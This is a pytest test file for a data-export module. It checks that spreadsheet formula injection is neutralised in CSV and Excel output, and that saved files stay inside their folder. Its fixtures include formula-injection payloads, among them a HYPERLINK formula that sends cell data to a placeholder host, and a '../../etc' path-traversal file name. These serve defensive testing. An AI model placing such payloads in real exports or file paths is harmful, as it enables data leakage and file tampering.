"""Export module: formula neutralisation, CSV round trips, formatted Excel read back, save_output."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from src.data.export import (
    FORMULA_TRIGGERS,
    ChartSpec,
    neutralise,
    sanitize_frame,
    sanitize_sheet_name,
    save_output,
    to_csv_bytes,
    to_excel_bytes,
)

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1",
           "\r=1+1", "\n=1", "\0x", "=1+1", "'=1+1", "normal", "-5", "Müller ä ß", ""]


def frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "text": HOSTILE,
        "count": np.arange(-5, -5 + n, dtype=np.int64),
        "share": np.linspace(0, 1, n),
        "ds": pd.date_range("2025-01-01 08:00", periods=n, freq="30min"),
        "flag": [True, False] * (n // 2),
    })


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-5") == "'-5"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("a=1") == "a=1"
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise(1.5) == 1.5


def test_sanitize_frame_leaves_numbers_and_dates_alone():
    df = frame()
    out = sanitize_frame(df)
    assert out["count"].tolist() == df["count"].tolist() and out["count"].dtype == np.int64
    assert out["ds"].equals(df["ds"]) and out["share"].equals(df["share"])
    for src, got in zip(df["text"], out["text"], strict=True):
        assert got == ("'" + src if src.startswith(FORMULA_TRIGGERS) else src)
    hdr = sanitize_frame(pd.DataFrame({"=cmd": [1], "@x": ["a"], 3: ["b"]}))
    assert list(hdr.columns) == ["'=cmd", "'@x", "3"]
    assert sanitize_frame(pd.DataFrame({"c": pd.Categorical(["=a", "b"])}))["c"].tolist() == ["'=a", "b"]
    assert df["text"].iloc[0].startswith("=")  # input not mutated


def test_csv_bytes_bom_quoting_and_no_triggers():
    data = to_csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["text", "count", "share", "ds", "flag"]
    assert len(rows) == len(HOSTILE) + 1  # the lone CR did not split or swallow a row
    for r in rows[1:]:
        assert not r[0].startswith(FORMULA_TRIGGERS)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert back["count"].tolist() == list(range(-5, -5 + len(HOSTILE)))
    assert back["text"].iloc[12] == "Müller ä ß"
    assert back["text"].iloc[5] == "'\r=1+1"


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=12),
                          st.integers(-10**6, 10**6)), min_size=1, max_size=8))
def test_csv_round_trip_property(rows):
    df = pd.DataFrame(rows, columns=["s", "n"])
    back = pd.read_csv(io.BytesIO(to_csv_bytes(df)), encoding="utf-8-sig", keep_default_na=False,
                       dtype={"s": str})
    assert back["n"].tolist() == df["n"].tolist()
    expected = [neutralise(s).replace("\0", "\ufffd") for s in df["s"]]
    # the csv module cannot tell "" from a missing field; both read back as empty
    assert back["s"].tolist() == expected
    assert not any(v.startswith(FORMULA_TRIGGERS) for v in back["s"])


def test_excel_read_back_has_no_formulas_and_is_formatted():
    df = frame()
    summary = pd.DataFrame({"metric": ["=evil()", "ok"], "value": [0.5, 2.0]})
    charts = [ChartSpec(sheet="Intervals: [main]", x_column="ds", y_columns=("share", "count"), title="t"),
              ChartSpec(sheet="Summary", x_column="metric", y_columns=("value",), kind="bar")]
    data = to_excel_bytes({"Intervals: [main]": df, "Summary": summary}, title="Plan", charts=charts,
                          number_formats={"share": "percent"})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
    assert not re.search(r"<f[ >]", sheet_xml)  # no formula element anywhere
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Intervals_ _main_", "Summary"]
    assert wb.properties.title == "Plan"
    ws = wb["Intervals_ _main_"]
    assert [c.value for c in ws[1]] == ["text", "count", "share", "ds", "flag"]
    assert ws[1][0].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:E{len(HOSTILE) + 1}"
    for i, src in enumerate(HOSTILE, start=2):
        cell = ws.cell(i, 1)
        if src:
            assert cell.data_type == "s"
            expected = "'" + src if src.startswith(FORMULA_TRIGGERS) else src
            # NUL cannot exist in XML (becomes U+FFFD); XML parsers normalise a raw CR to LF
            assert cell.value == expected.replace("\0", "\ufffd").replace("\r", "\n")
    assert ws.cell(2, 2).value == -5 and ws.cell(2, 2).number_format == "0"
    assert ws.cell(3, 3).number_format == "0.0%"
    assert ws.cell(2, 4).value == datetime(2025, 1, 1, 8, 0) and ws.cell(2, 4).number_format == "yyyy-mm-dd hh:mm"
    assert ws.cell(2, 5).value is True
    assert ws.column_dimensions["A"].width >= 10
    assert len(ws._charts) == 1 and len(wb["Summary"]._charts) == 1
    assert wb["Summary"].cell(2, 1).value == "'=evil()"


def test_excel_handles_nan_inf_tz_and_dates():
    df = pd.DataFrame({"x": [1.0, np.nan, np.inf], "d": pd.to_datetime(["2025-01-01", "2025-01-02", None]),
                       "tz": pd.date_range("2025-01-01", periods=3, freq="D", tz="Europe/Berlin")})
    wb = openpyxl.load_workbook(io.BytesIO(to_excel_bytes({"s": df})))
    ws = wb["s"]
    assert ws.cell(3, 1).value is None and ws.cell(4, 1).value is None
    assert ws.cell(2, 2).number_format == "yyyy-mm-dd"
    assert ws.cell(2, 3).value == datetime(2025, 1, 1)


def test_sheet_names_and_errors():
    assert sanitize_sheet_name("a/b\\c?d*e[f]g:h") == "a_b_c_d_e_f_g_h"
    assert len(sanitize_sheet_name("x" * 50)) == 31
    assert sanitize_sheet_name("Plan", ["plan"]) == "Plan (2)"
    assert sanitize_sheet_name("''") == "Sheet"
    with pytest.raises(ValueError):
        to_excel_bytes({})
    with pytest.raises(ValueError, match="unknown columns"):
        to_excel_bytes({"a": pd.DataFrame({"x": [1]})}, charts=[ChartSpec("a", "x", ("nope",))])
    with pytest.raises(ValueError):
        ChartSpec("a", "x", ("y",), kind="pie")  # type: ignore[arg-type]


def test_save_output(tmp_path):
    now = datetime(2025, 1, 2, 3, 4, 5)
    p1 = save_output("../../etc/plan ä.xlsx", b"1", tmp_path, now=now)
    p2 = save_output("plan ä.xlsx", b"2", tmp_path, now=now)
    assert p1.parent == tmp_path and p1.name == "plan_20250102-030405.xlsx"
    assert p2.name == "plan_20250102-030405-2.xlsx"
    assert p1.read_bytes() == b"1" and p2.read_bytes() == b"2"
